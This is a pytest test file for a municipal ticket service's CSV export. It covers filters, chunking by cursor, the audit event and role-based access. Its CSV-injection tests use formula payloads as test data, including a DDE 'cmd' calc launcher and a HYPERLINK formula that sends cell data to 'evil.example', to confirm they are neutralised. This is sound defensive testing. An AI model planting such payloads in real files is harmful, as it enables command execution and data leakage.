"""The CSV export, asked of the tickets service over request/reply (a real nats-server): the file holds
the municipality's tickets matching the filters of the lists (the same tickets `ListTickets` finds), in
chunks that follow each other by cursor without repeating or skipping a ticket, with cells a spreadsheet
would run as formulas neutralised; ExportPerformed is published once per export with the count; only
managers (their own municipality) and admins (naming one) export, and only the starter reads the chunks.

Tickets are stored directly as the service stores them, so each test controls times, statuses and places;
the service's clock is fixed at NOW.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from nats.aio.client import Client as NatsClient

from cityfix_contracts import Point, RpcContext, UserActor, parse_envelope
from cityfix_contracts.commands.ticket_export import (
    EXPORT_COLUMNS,
    ExportTickets,
    ReadTicketExport,
    TicketExport,
    TicketExportChunk,
)
from cityfix_contracts.commands.ticket_queries import ListTickets, TicketPage
from cityfix_contracts.events.exports import ExportPerformed
from cityfix_contracts.rpc import Request
from cityfix_contracts.subjects import EVENTS_STREAM
from services.common.rpc import RpcClient, RpcFailure
from services.common.service import ServiceRuntime
from services.common.testing import eventually
from services.tickets import export
from services.tickets.documents import CategoryDocument, MunicipalityDocument, TicketDocument
from services.tickets.domain import Actor, CategoryTerms, Ticket
from services.tickets.export import neutralised
from services.tickets.handlers import ticket_document
from services.tickets.service import spec

A, B = "m-potsdam", "m-cottbus"
POTHOLE, LIGHT, POTHOLE_B = "c-pothole", "c-streetlight", "c-pothole-b"
NOW = datetime(2025, 6, 2, 12, 0, tzinfo=UTC)
CENTRE_A = (52.400, 13.060)
CENTRE_B = (51.760, 14.330)
CITIZEN, OPERATOR_A = "u-citizen", "u-op-a"
DAY = timedelta(days=1)


def ctx(user_id: str | None = None, role: str = "citizen", municipality_id: str | None = None) -> RpcContext:
    if user_id is None:
        return RpcContext(correlation_id="test-export")
    return RpcContext(
        correlation_id="test-export",
        actor=UserActor(user_id=user_id, role=role),  # type: ignore[arg-type]
        municipality_id=municipality_id,
    )


MANAGER_A = ctx("u-mgr-a", "manager", A)
OTHER_MANAGER_A = ctx("u-mgr-a2", "manager", A)
OPERATOR_A_CTX = ctx(OPERATOR_A, "operator", A)
ADMIN = ctx("u-admin", "admin")

_numbers = itertools.count(1)


async def store(
    *,
    municipality: str = A,
    category: str = POTHOLE,
    description: str = "Pothole in the road",
    at: tuple[float, float] | None = None,
    created_at: datetime = NOW - DAY,
    **state: Any,
) -> TicketDocument:
    """A ticket as the service stores it, reported by CITIZEN, then brought to `state`."""
    number = next(_numbers)
    lat, lon = at or (CENTRE_A if municipality == A else CENTRE_B)
    ticket = Ticket.report(
        ticket_id=f"t-{number:04d}",
        reference=f"{'POT' if municipality == A else 'COT'}-{number}",
        municipality_id=municipality,
        category=CategoryTerms(id=category),
        actor=Actor.citizen(CITIZEN),
        description=description,
        location=Point(lat=lat, lon=lon),
        now=created_at,
    )
    fields = ticket_document(ticket, reported_by=CITIZEN).model_dump()
    doc = TicketDocument.model_validate({**fields, "updated_at": created_at, **state})
    await doc.insert()
    return doc


@pytest.fixture
async def runtime(run_service: Callable[..., Awaitable[ServiceRuntime]]) -> ServiceRuntime:
    runtime = await run_service(spec)
    runtime.deps.clock = lambda: NOW
    await MunicipalityDocument(id=A, name="Potsdam", slug="potsdam", reference_prefix="POT").insert()
    await MunicipalityDocument(id=B, name="Cottbus", slug="cottbus", reference_prefix="COT").insert()
    for category, municipality, name in ((POTHOLE, A, "Pothole"), (LIGHT, A, "Street light")):
        await CategoryDocument(
            id=category, municipality_id=municipality, name=name, active=True, sequence=1
        ).insert()
    await CategoryDocument(
        id=POTHOLE_B, municipality_id=B, name="Schlagloch", active=True, sequence=1
    ).insert()
    return runtime


@pytest.fixture
def tickets(runtime: ServiceRuntime, nats_client: NatsClient) -> RpcClient:
    return RpcClient(nats_client)


async def refused(rpc: RpcClient, query: Request, asker: RpcContext) -> tuple[str, str]:
    with pytest.raises(RpcFailure) as failure:
        await rpc.call(query, asker)
    return failure.value.error.kind, failure.value.error.code


MAX_CHUNKS = 100


async def chunks(
    rpc: RpcClient,
    asker: RpcContext = MANAGER_A,
    between: Callable[[], Awaitable[None]] | None = None,
    **filters: Any,
) -> tuple[TicketExport, list[TicketExportChunk]]:
    """Start an export and read every chunk (`between` runs after each chunk but the last)."""
    started: TicketExport = await rpc.call(ExportTickets(**filters), asker)
    read: list[TicketExportChunk] = []
    cursor = None
    for _ in range(MAX_CHUNKS):
        chunk: TicketExportChunk = await rpc.call(
            ReadTicketExport(export_id=started.export_id, cursor=cursor), asker
        )
        read.append(chunk)
        if chunk.next_cursor is None:
            return started, read
        cursor = chunk.next_cursor
        if between is not None:
            await between()
    raise AssertionError(f"the export did not end within {MAX_CHUNKS} chunks")


def parsed(read: list[TicketExportChunk]) -> list[dict[str, str]]:
    """The rows of the whole file, by the header, as a spreadsheet program reads them."""
    text = "".join(chunk.text for chunk in read)
    assert text.startswith("\ufeff"), "the file starts with the byte-order mark"
    reader = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    head = next(reader)
    assert tuple(head) == EXPORT_COLUMNS
    rows = [dict(zip(head, line, strict=True)) for line in reader]
    assert sum(chunk.rows for chunk in read) == len(rows)
    return rows


async def exported(rpc: RpcClient, asker: RpcContext = MANAGER_A, **filters: Any) -> list[dict[str, str]]:
    return parsed((await chunks(rpc, asker, **filters))[1])


async def ids(rpc: RpcClient, asker: RpcContext = MANAGER_A, **filters: Any) -> list[str]:
    return [row["id"] for row in await exported(rpc, asker, **filters)]


async def listed(rpc: RpcClient, asker: RpcContext, **filters: Any) -> set[str]:
    """What the ticket list finds with these filters (every page)."""
    found: set[str] = set()
    cursor = None
    for _ in range(MAX_CHUNKS):
        page: TicketPage = await rpc.call(ListTickets(limit=100, cursor=cursor, **filters), asker)
        found |= {view.id for view in page.data}
        if page.next_cursor is None:
            return found
        cursor = page.next_cursor
    raise AssertionError("the list did not end")


# ----- the file --------------------------------------------------------------------------------------------


async def test_the_file_holds_the_municipalitys_tickets_in_the_staffs_columns(tickets: RpcClient) -> None:
    worked = await store(
        category=LIGHT,
        description='Lamp "Nr. 7" flickers,\nsince Monday',
        address="Hauptstraße 12, Potsdam",
        status="in_progress",
        priority="high",
        assigned_operator_id=OPERATOR_A,
        assigned_operator_name="A. Operator",
        supporters=["u-1", "u-2"],
        due_at=NOW - timedelta(hours=2),
        sla_breached_at=NOW - timedelta(hours=1),
        answers={"height_m": 6, "colour": "grün"},
        created_at=NOW - 3 * DAY,
        updated_at=NOW - DAY,
    )
    hidden = await store(hidden=True, created_at=NOW - 2 * DAY)
    in_b = await store(municipality=B, category=POTHOLE_B)

    started, read = await chunks(tickets)
    rows = parsed(read)
    assert started.row_count == 2 and started.municipality_id == A
    assert started.file_name == "tickets-potsdam-2025-06-02.csv"
    assert [row["id"] for row in rows] == [worked.id, hidden.id]  # oldest report first
    row = rows[0]
    assert row == {
        **row,
        "reference": worked.reference,
        "status": "in_progress",
        "priority": "high",
        "category_id": LIGHT,
        "category_name": "Street light",
        "municipality_id": A,
        "municipality_name": "Potsdam",
        "description": 'Lamp "Nr. 7" flickers,\nsince Monday',
        "address": "Hauptstraße 12, Potsdam",
        "lat": "52.4",
        "lon": "13.06",
        "created_at": "2025-05-30T12:00:00+00:00",
        "updated_at": "2025-06-01T12:00:00+00:00",
        "due_at": "2025-06-02T10:00:00+00:00",
        "resolved_at": "",
        "sla_breached_at": "2025-06-02T11:00:00+00:00",
        "assigned_operator_id": OPERATOR_A,
        "assigned_operator_name": "A. Operator",
        "support_count": "2",
        "hidden": "false",
        "answers": json.dumps({"colour": "grün", "height_m": 6}, ensure_ascii=False),
    }
    assert rows[1]["hidden"] == "true"  # staff export hidden tickets too, marked
    text = "".join(chunk.text for chunk in read)
    assert CITIZEN not in text  # no reporter, not even by id
    assert in_b.id not in text and in_b.reference not in text and "Schlagloch" not in text


async def test_an_export_with_nothing_to_export_is_a_header(tickets: RpcClient) -> None:
    await store(municipality=B, category=POTHOLE_B)
    started, read = await chunks(tickets)
    assert started.row_count == 0 and len(read) == 1
    assert read[0].text == "\ufeff" + ",".join(EXPORT_COLUMNS) + "\r\n"
    assert parsed(read) == []


async def test_filters_are_those_of_the_ticket_list(tickets: RpcClient) -> None:
    received = await store(created_at=NOW - 5 * DAY, description="Straße aufgerissen vor Nummer 3")
    triaged = await store(status="triaged", priority="high", category=LIGHT, created_at=NOW - 4 * DAY)
    late = await store(
        status="assigned", assigned_operator_id=OPERATOR_A, due_at=NOW - DAY, created_at=NOW - 3 * DAY
    )
    on_time = await store(status="in_progress", due_at=NOW + DAY, priority="urgent")
    resolved_late = await store(status="resolved", due_at=NOW - 2 * DAY, assigned_operator_id=OPERATOR_A)
    far = await store(at=(CENTRE_A[0] + 5_000 / 111_195, CENTRE_A[1]), description="Laterne flackert")
    in_b = await store(municipality=B, category=POTHOLE_B, description="Straßenschaden am Markt")
    lat, lon = CENTRE_A
    cases: list[tuple[dict[str, Any], set[str]]] = [
        ({}, {received.id, triaged.id, late.id, on_time.id, resolved_late.id, far.id}),
        ({"status": ("triaged",)}, {triaged.id}),
        ({"status": ("closed",)}, {resolved_late.id}),
        ({"category_id": LIGHT}, {triaged.id}),
        ({"assigned_operator_id": OPERATOR_A}, {late.id, resolved_late.id}),
        ({"priority": ("urgent", "high")}, {on_time.id, triaged.id}),
        ({"overdue": True}, {late.id}),
        ({"created_from": NOW - 4 * DAY, "created_to": NOW - 2 * DAY}, {triaged.id, late.id}),
        ({"q": "STRASSE"}, {received.id}),
        ({"q": far.reference.lower()}, {far.id}),
        (
            {"near": {"center": {"lat": lat, "lon": lon}, "radius_m": 1000}},
            {received.id, triaged.id, late.id, on_time.id, resolved_late.id},
        ),
        (
            {"bbox": {"west": lon - 0.01, "south": lat + 0.01, "east": lon + 0.01, "north": lat + 0.1}},
            {far.id},
        ),
        (
            {"municipality_id": A, "status": ("open",), "priority": ("normal",)},
            {received.id, late.id, far.id},
        ),
    ]
    for filters, expected in cases:
        found = await ids(tickets, **filters)
        assert len(found) == len(set(found)), filters
        assert set(found) == expected, filters
        assert set(found) == await listed(tickets, MANAGER_A, **filters), filters
    assert in_b.id in await ids(tickets, ADMIN, municipality_id=B, q="strasse")


# ----- CSV injection -----------------------------------------------------------------------------------------


def test_text_that_would_be_a_formula_is_neutralised() -> None:
    for formula in (
        "=1+1",
        "+49 331 123",
        "-5 cm deep",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "  =cmd|' /C calc'!A0",
    ):
        assert neutralised(formula) == "'" + formula
    for text in ("Pothole - deep", "Street light", "", "'quoted", "5 + 5", "E=mc²"):
        assert neutralised(text) == text


async def test_formulas_in_reports_reach_the_file_as_text(tickets: RpcClient) -> None:
    attacks = {
        '=HYPERLINK("http://evil.example/?"&A1,"Click")': "address one",
        "+49 331 1234567 call me": "=cmd|' /C calc'!A0",
        "-2+3 deep": "@SUM(1+1)*cmd|' /C calc'!A0",
        "   =1+1": "\t=1+1",
    }
    stored = [await store(description=text, address=address) for text, address in attacks.items()]
    west = await store(at=(51.5, -0.12), description="A plain report")  # a number may be negative
    rows = {row["id"]: row for row in await exported(tickets)}
    for doc in stored:
        assert rows[doc.id]["description"] == "'" + doc.description
        assert rows[doc.id]["address"] == (doc.address if doc.address == "address one" else f"'{doc.address}")
    assert rows[west.id]["lon"] == "-0.12" and rows[west.id]["description"] == "A plain report"


# ----- chunks ----------------------------------------------------------------------------------------------


async def test_chunks_follow_each_other_without_repeating_or_skipping(
    tickets: RpcClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "PAGE_ROWS", 3)
    same_moment = NOW - 2 * DAY  # ties on created_at are ordered by id
    docs = [
        await store(created_at=same_moment if n % 3 == 0 else NOW - timedelta(hours=n)) for n in range(11)
    ]
    expected = [doc.id for doc in sorted(docs, key=lambda d: (d.created_at, d.id))]

    async def another_report_arrives() -> None:  # after the export started: not in this file
        await store(created_at=NOW + timedelta(minutes=1))

    started, read = await chunks(tickets, between=another_report_arrives)
    assert len(read) == 4 and [chunk.rows for chunk in read] == [3, 3, 3, 2]
    assert read[0].text.startswith("\ufeffreference,") and not any(
        c.text.startswith("\ufeff") for c in read[1:]
    )
    assert [row["id"] for row in parsed(read)] == expected
    assert started.row_count == len(expected)


async def test_a_chunk_ends_once_its_text_passes_the_size_limit(
    tickets: RpcClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "CHUNK_BYTES", 2_500)
    long_ones = [await store(description="ü" * 1_000, created_at=NOW - timedelta(hours=n)) for n in range(5)]
    _, read = await chunks(tickets)
    assert [chunk.rows for chunk in read] == [2, 2, 1]  # 2 000 bytes a row: the second row passes 2 500
    assert {row["id"] for row in parsed(read)} == {doc.id for doc in long_ones}


# ----- ExportPerformed -------------------------------------------------------------------------------------


async def published(nats_client: NatsClient, subject: str) -> int:
    info = await nats_client.jetstream().stream_info(EVENTS_STREAM, subjects_filter=subject)
    return sum((info.state.subjects or {}).values())


async def test_export_performed_is_published_once_per_export_with_the_count(
    tickets: RpcClient, runtime: ServiceRuntime, nats_client: NatsClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "PAGE_ROWS", 2)
    for n in range(5):
        await store(status="triaged" if n < 4 else "received", created_at=NOW - timedelta(hours=n + 1))
    await store(municipality=B, category=POTHOLE_B, status="triaged")
    started, read = await chunks(tickets, status=("triaged",))
    assert len(read) == 2 and started.row_count == 4

    subject = f"cityfix.events.{A}.export.performed"

    async def relayed() -> bool:
        pending: int = await runtime.database["outbox"].count_documents({})
        return pending == 0 and await published(nats_client, subject) >= 1

    await eventually(relayed, what="ExportPerformed relayed")
    assert await published(nats_client, "cityfix.events.*.export.>") == 1  # reading the chunks emits nothing
    message = await nats_client.jetstream().get_last_msg(EVENTS_STREAM, subject)
    envelope = parse_envelope(message.data)
    event = envelope.data
    assert isinstance(event, ExportPerformed)
    assert envelope.aggregate_id == event.export_id == started.export_id and envelope.sequence == 1
    assert envelope.municipality_id == event.municipality_id == A
    assert envelope.actor == MANAGER_A.actor and envelope.correlation_id == MANAGER_A.correlation_id
    assert event.row_count == 4 and event.filters.status == ("triaged",) and event.as_of == started.as_of

    # An export that is started and never read is audited all the same.
    await tickets.call(ExportTickets(), MANAGER_A)

    async def second() -> bool:
        return await published(nats_client, subject) == 2

    await eventually(second, what="the second export's ExportPerformed")


# ----- who exports -----------------------------------------------------------------------------------------


async def test_only_managers_and_admins_export_and_only_the_starter_reads(tickets: RpcClient) -> None:
    mine = await store()
    in_b = await store(municipality=B, category=POTHOLE_B)
    assert await refused(tickets, ExportTickets(), RpcContext(correlation_id="c")) == (
        "unauthenticated",
        "unauthenticated",
    )
    assert await refused(tickets, ExportTickets(), ctx(CITIZEN)) == ("forbidden", "managers_only")
    assert await refused(tickets, ExportTickets(), OPERATOR_A_CTX) == ("forbidden", "managers_only")
    assert await refused(tickets, ExportTickets(municipality_id=B), MANAGER_A) == (
        "forbidden",
        "other_municipality",
    )
    assert await refused(tickets, ExportTickets(), ADMIN) == ("invalid", "municipality_required")
    assert await refused(tickets, ExportTickets(municipality_id="m-nowhere"), ADMIN) == (
        "not_found",
        "municipality_not_found",
    )
    assert await ids(tickets, MANAGER_A, municipality_id=A) == [mine.id]
    assert await ids(tickets, ADMIN, municipality_id=B) == [in_b.id]

    started: TicketExport = await tickets.call(ExportTickets(), MANAGER_A)
    first = ReadTicketExport(export_id=started.export_id)
    for stranger in (OTHER_MANAGER_A, OPERATOR_A_CTX, ADMIN, ctx(CITIZEN), RpcContext(correlation_id="c")):
        assert await refused(tickets, first, stranger) == ("not_found", "export_not_found")
    moved = ctx("u-mgr-a", "manager", B)  # the same person, now a manager elsewhere
    assert await refused(tickets, first, moved) == ("not_found", "export_not_found")
    altered = ReadTicketExport(export_id=started.export_id, cursor="eyJvIjoieCIsInYiOltdfQ")
    assert await refused(tickets, altered, MANAGER_A) == ("invalid", "invalid_cursor")
    chunk: TicketExportChunk = await tickets.call(first, MANAGER_A)
    assert chunk.rows == 1 and chunk.next_cursor is None
